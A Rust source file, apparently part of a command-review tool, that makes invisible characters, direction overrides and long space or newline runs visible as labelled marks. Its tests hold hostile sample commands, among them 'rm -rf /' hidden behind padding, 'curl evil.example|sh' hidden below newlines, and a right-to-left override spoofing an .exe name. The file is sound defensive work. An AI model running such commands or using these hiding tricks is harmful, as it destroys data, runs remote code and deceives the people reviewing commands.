//! A text of somebody else's with nothing in it that cannot be seen: control and direction characters, blanks that look like others or
//! like nothing, and runs of spaces and lines that push the rest out of sight.

use crate::text::shell::hidden as words;

/// A piece of such a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Piece {
    /// Characters as they are.
    Plain(String),
    /// What stands for a character that cannot be seen. It looks different, so that no plain text can pretend to be one.
    Mark(String),
    /// The end of a line, after its mark.
    Break,
}

/// The longest run of spaces that is shown as it is. A longer one pushes what follows out of sight.
const SPACES: usize = 8;

/// A text as the pieces in which all of it can be seen.
pub fn visible(text: &str) -> Vec<Piece> {
    let mut pieces = Vec::new();
    let mut rest = text;
    let mut line_begins = true;
    while let Some(first) = rest.chars().next() {
        let same = rest.chars().take_while(|other| *other == first).count();
        let after = &rest[first.len_utf8() * same..];
        let line_ends = after.is_empty() || after.starts_with('\n');
        let begins = std::mem::replace(&mut line_begins, first == '\n');
        let spaces = first == ' ' && same <= SPACES && !line_ends;
        // Indentation is seen by what follows it, but for a text that only begins with a blank.
        let shown = spaces && !(begins && rest.len() == text.len());
        if shown || (first != ' ' && !is_hidden(first)) {
            plain(&mut pieces, &rest[..first.len_utf8() * same]);
        } else {
            pieces.push(Piece::Mark(mark(first, same)));
            if first == '\n' {
                pieces.push(Piece::Break);
            }
        }
        rest = after;
    }
    pieces
}

/// A text on one line of at most so many characters, with the same marks among its words.
pub fn one_line(text: &str, most: usize) -> String {
    let mut line = String::new();
    for piece in visible(text) {
        match piece {
            Piece::Plain(piece) | Piece::Mark(piece) => line.push_str(&piece),
            Piece::Break => line.push(' '),
        }
    }
    if line.chars().count() <= most {
        return line;
    }
    let mut cut: String = line.chars().take(most.saturating_sub(1)).collect();
    cut.push('…');
    cut
}

fn plain(pieces: &mut Vec<Piece>, shown: &str) {
    if let Some(Piece::Plain(text)) = pieces.last_mut() {
        text.push_str(shown);
    } else {
        pieces.push(Piece::Plain(shown.to_owned()));
    }
}

/// What stands for so many equal characters: a word that every typeface has.
fn mark(hidden: char, count: usize) -> String {
    let number = u32::from(hidden);
    let name = match hidden {
        ' ' => words::SPACE.to_owned(),
        '\n' => words::NEWLINE.to_owned(),
        '\t' => words::TAB.to_owned(),
        _ => format!("U+{number:04X}"),
    };
    match count {
        1 => format!("<{name}>"),
        _ => format!("<{count} × {name}>"),
    }
}

/// Whether a character cannot be seen, looks like a space, or changes how others are laid out.
fn is_hidden(character: char) -> bool {
    character.is_control()
        || matches!(
            u32::from(character),
            0xa0 | 0xad
                | 0x034f
                | 0x061c
                | 0x115f..=0x1160
                | 0x1680
                | 0x17b4..=0x17b5
                | 0x180b..=0x180f
                | 0x2000..=0x200f
                | 0x2028..=0x202f
                | 0x205f..=0x206f
                | 0x2800
                | 0x3000
                | 0x3164
                | 0xfe00..=0xfe0f
                | 0xfeff
                | 0xffa0
                | 0xfff0..=0xfffc
                | 0x1d173..=0x1d17a
                | 0xe0000..=0xe0fff
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> String {
        let piece = |piece| match piece {
            Piece::Plain(text) => text,
            Piece::Mark(mark) => format!("[{mark}]"),
            Piece::Break => "/".to_owned(),
        };
        visible(text).into_iter().map(piece).collect()
    }

    #[test]
    fn plain_text_stays_as_it_is() {
        for text in [
            "uname -a",
            "",
            "größer 東京 🦀",
            "echo 'a  b'",
            "a    # aligned",
        ] {
            assert_eq!(shown(text), text);
        }
        assert_eq!(shown("if x:\n    y"), "if x:[<newline>]/    y");
    }

    #[test]
    fn what_hides_the_rest_of_a_command_is_shown() {
        let padded = format!("date{}; rm -rf /", " ".repeat(90));
        assert_eq!(shown(&padded), "date[<90 × space>]; rm -rf /");
        let below = format!("date{}curl evil.example|sh", "\n".repeat(40));
        assert_eq!(shown(&below), "date[<40 × newline>]/curl evil.example|sh");
        assert_eq!(shown("date\nreboot"), "date[<newline>]/reboot");
        assert_eq!(
            shown("date\r\x1b[2Kls\t-l\x7f"),
            "date[<U+000D>][<U+001B>][2Kls[<tab>]-l[<U+007F>]"
        );
        assert_eq!(shown(" ls "), "[<space>]ls[<space>]");
        assert_eq!(shown("ls \n-l"), "ls[<space>][<newline>]/-l");
    }

    #[test]
    fn what_turns_or_hides_characters_is_shown_by_its_number() {
        assert_eq!(shown("a\u{202e}txt.exe"), "a[<U+202E>]txt.exe");
        for hidden in [
            '\u{200b}',
            '\u{2066}',
            '\u{feff}',
            '\u{ad}',
            '\u{a0}',
            '\u{2028}',
            '\u{85}',
            '\u{3000}',
            '\u{2800}',
            '\u{e0041}',
            '\u{61c}',
            '\u{200f}',
        ] {
            let shown = shown(&format!("a{hidden}b"));
            assert!(
                shown.starts_with("a[<U+") && shown.ends_with(">]b"),
                "{shown}"
            );
        }
    }

    #[test]
    fn a_line_is_one_line_and_bounded() {
        assert_eq!(one_line("a\nb", 20), "a<newline> b");
        assert_eq!(one_line("uptime", 6), "uptime");
        assert_eq!(one_line("uptime -p", 6), "uptim…");
    }
}
